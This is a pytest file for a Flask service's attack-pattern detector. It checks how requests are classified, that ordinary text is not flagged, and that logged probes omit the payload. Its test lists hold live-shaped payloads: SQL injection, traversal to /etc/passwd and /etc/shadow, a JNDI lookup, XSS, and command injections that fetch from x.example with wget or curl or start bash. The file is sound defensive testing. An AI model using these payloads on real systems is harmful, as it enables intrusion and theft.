"""Which requests look like an attack, and which ones only look odd."""

from __future__ import annotations

import logging
import time
from urllib.parse import quote, quote_plus, unquote

import pytest
from flask.testing import FlaskClient
from opentelemetry import trace
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from otel_stack_distro.flask.attack_patterns import SHAPES, shape
from otel_stack_distro.json_logging import JsonFormatter

from tests.unit.services.conftest import MakeClient

SEARCH = "/api/activities/search"

IN_A_QUERY = [
    ("' OR '1'='1", "sql_injection"),
    ("1' or 1=1 --", "sql_injection"),
    ('x") OR ("a"="a', "sql_injection"),
    ("x' AND 1>0", "sql_injection"),
    ("1 UNION SELECT null,null", "sql_injection"),
    ("1 UnIoN/**/AlL/**/SeLeCt 1,2,3", "sql_injection"),
    ("1' union select group_concat(name)", "sql_injection"),
    ("x'; DROP TABLE activities", "sql_injection"),
    ("x; delete from users", "sql_injection"),
    ("1 AND SLEEP(5)", "sql_injection"),
    ("1); SELECT pg_sleep(10)", "sql_injection"),
    ("x' WAITFOR DELAY '0:0:5'", "sql_injection"),
    ("select table_name from information_schema.tables", "sql_injection"),
    ("admin'--", "sql_injection"),
    ("admin' #", "sql_injection"),
    ("../../../../etc/passwd", "path_traversal"),
    ("..\\..\\windows\\win.ini", "path_traversal"),
    ("file:///etc/shadow", "path_traversal"),
    ("x\0.png", "path_traversal"),
    ("{{7*7}}", "template_injection"),
    ("{{config.items()}}", "template_injection"),
    ("{{''.__class__.__mro__}}", "template_injection"),
    ("${jndi:ldap://x.example/a}", "template_injection"),
    ("${7*7}", "template_injection"),
    ("<%= 7*7 %>", "template_injection"),
    ("<script>alert(1)</script>", "script_injection"),
    ("<img src=x onerror=alert(1)>", "script_injection"),
    ("<svg/onload=alert(1)>", "script_injection"),
    ("javascript:alert(1)", "script_injection"),
    ("<iframe src=//x.example>", "script_injection"),
    ("; cat /home/x", "command_injection"),
    ("x | wget http://x.example/a.sh", "command_injection"),
    ("$(curl -s https://x.example)", "command_injection"),
    ("`whoami`", "command_injection"),
    ("127.0.0.1 && ping -c 3 x.example", "command_injection"),
    ("() { :; }; /bin/bash -i", "command_injection"),
]

IN_A_PATH = [
    ("/../../etc/passwd", "path_traversal"),
    ("/static/..\\..\\x", "path_traversal"),
    ("/static/%2e%2e/%2e%2e/x", "path_traversal"),
    ("/.env", "scanner"),
    ("/api/.git/config", "scanner"),
    ("/wp-login.php", "scanner"),
    ("/wp-admin/setup-config", "scanner"),
    ("/index.PHP", "scanner"),
    ("/cgi-bin/x", "scanner"),
    ("/actuator/health", "scanner"),
    ("/dump.sql", "scanner"),
    ("/api/activities/@worf' OR '1'='1", "sql_injection"),
    ("/api/activities/@<script>alert(1)</script>", "script_injection"),
    ("/api/activities/${jndi:ldap:x}", "template_injection"),
]

# What people type into a search box, send as a handle, or have in a link.
ORDINARY = [
    "worf",
    "it's o'clock, isn't it?",
    "rock 'n' roll",
    "O'Brien or O'Neill",
    '"to be" or "not to be"',
    "the 'best' and worst = both",
    "the union select committee of 1990",
    "select a union from the list",
    "Western Union",
    "drop the table; dinner is ready",
    "tea; curl my hair",
    "I can sleep (8 hours)",
    "time.sleep(5) is bad",
    "x = y; y > 3",
    "a < b and c > d",
    "I <3 you & me",
    "<3 onwards",
    "C:\\Users\\worf",
    "so... what/where",
    "and/or",
    "../photo.png",
    "100% #yolo -- really",
    "he said 'no' -- twice",
    "{curly} and {{double}}",
    "${price} is too much",
    "$5 {or} less",
    "what is JavaScript: the good parts",
    "cat /|\\ dog",
    "ping me; who am I?",
    "50% off | today",
    "SELECT * FROM life",
    "/* comment */",
    "πληροφορία ? ü 日本 🖖",
    "__init__ me",
    "a@b.example",
    "2026-11-21T10:00:00+01:00",
    "https://example.com/a?b=c&d=e",
    "",
]


@pytest.mark.parametrize(("value", "name"), IN_A_QUERY)
@pytest.mark.parametrize("how", ["as it is", "encoded", "with plus", "encoded twice"])
def test_a_probe_in_a_query_has_its_name(value: str, name: str, how: str) -> None:
    if how == "as it is" and set(value) & set("%+&#\0;"):
        pytest.skip("no client could send it so")
    sent = {
        "as it is": value,
        "encoded": quote(value),
        "with plus": quote_plus(value),
        "encoded twice": quote(quote(value)),
    }[how]

    assert shape(SEARCH, f"page=2&term={sent}&x=1") == name


@pytest.mark.parametrize(("path", "name"), IN_A_PATH)
def test_a_probe_in_a_path_has_its_name(path: str, name: str) -> None:
    assert shape(path, "") == name


def test_every_shape_is_tried_here() -> None:
    assert {name for _, name in (*IN_A_QUERY, *IN_A_PATH)} == SHAPES


@pytest.mark.parametrize("value", ORDINARY)
def test_what_people_write_is_no_probe(value: str) -> None:
    assert shape(SEARCH, f"term={quote_plus(value)}") is None
    # as a part of the path: a slash or a leading dot of theirs would be percent-encoded
    assert shape(f"/api/activities/@{unquote(value.partition('/')[0])}", "") is None


def test_padding_up_to_gunicorns_limit_hides_nothing() -> None:
    assert shape(SEARCH, f"a={'x' * 3900}&term={quote_plus('{{7*7}}')}") == "template_injection"


STARTS = (
    *("", "'", "' or", "' or (", "<", "<a", "<a ", "union", "union select", ";", "; curl ", "="),
    *("{{", "{{1", "${", "${1", "#{1", "javascript:", "select(", "waitfor delay"),
)
RUNS = (" ", "\n", "\t(", "(", ")", "a", "1", "/", "/**/", "*", ".", "'", "{", "\\", "=", "or ")


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("again", [True, False], ids=["again and again", "once"])
def test_no_text_makes_the_search_slow(start: str, again: bool) -> None:
    slowest = 0.0
    for run in RUNS:
        part = start + run * 8 if again else start + run * 4094
        text = (part * 4094)[:4094]
        # the garbage of the tests before may be collected during one of them
        slowest = max(slowest, min(_cpu_seconds(text) for _ in range(2)))
    assert slowest < 0.1


def _cpu_seconds(text: str) -> float:
    """Of this thread: another one's load does not count."""
    started = time.thread_time()
    shape(text, text)
    return time.thread_time() - started


def one_access_record(caplog: pytest.LogCaptureFixture) -> logging.LogRecord:
    (found,) = [one for one in caplog.records if one.name == "access"]
    return found


def test_a_probes_record_says_who_and_what_but_not_how(
    client: FlaskClient, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)

    client.get(f"{SEARCH}?term=' OR 'x4711'='x4711", environ_base={"REMOTE_ADDR": "192.0.2.7"})

    record = one_access_record(caplog)
    fields = vars(record)
    assert fields["security_event"] == "probe"
    assert fields["security_rule.name"] == "sql_injection"
    assert fields["security_client"] == "192.0.2.7"
    assert record.levelno == logging.WARNING
    assert "4711" not in JsonFormatter("x").format(record)


def test_a_probes_span_can_be_searched_by_its_shape(
    client: FlaskClient, spans: InMemorySpanExporter
) -> None:
    with trace.get_tracer("test").start_as_current_span("server"):
        client.get("/.env")

    (server,) = [span for span in spans.get_finished_spans() if span.name == "server"]
    assert (server.attributes or {})["security_rule.name"] == "scanner"


def test_a_probe_of_the_health_check_is_not_kept_quiet(
    client: FlaskClient, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)

    client.get("/api/health-check?x={{7*7}}")

    assert vars(one_access_record(caplog))["security_event"] == "probe"


@pytest.mark.parametrize(
    ("method", "path", "event"),
    [
        ("GET", "/nothing", "not_found"),
        ("GET", SEARCH, "invalid"),
        ("POST", "/api/activities", "invalid"),
        ("GET", "/refused/401", "denied"),
        ("GET", "/refused/403", "denied"),
        ("PUT", "/api/activities/home", None),
        ("GET", "/api/activities/home", None),
        ("GET", "/refused/503", None),
    ],
)
def test_what_is_refused_is_an_event_of_its_kind(
    make_client: MakeClient,
    caplog: pytest.LogCaptureFixture,
    method: str,
    path: str,
    event: str | None,
) -> None:
    # given an app with a route that refuses, since Cruddur has none yet
    client = make_client()
    client.application.add_url_rule(
        "/refused/<int:status>", view_func=lambda status: ("no", status)
    )
    caplog.set_level(logging.INFO)
    # when
    client.open(path, method=method, environ_base={"REMOTE_ADDR": "192.0.2.7"})
    # then
    fields = vars(one_access_record(caplog))
    assert fields.get("security_event") == event
    assert fields.get("security_client") == ("192.0.2.7" if event else None)
    assert "security_rule.name" not in fields
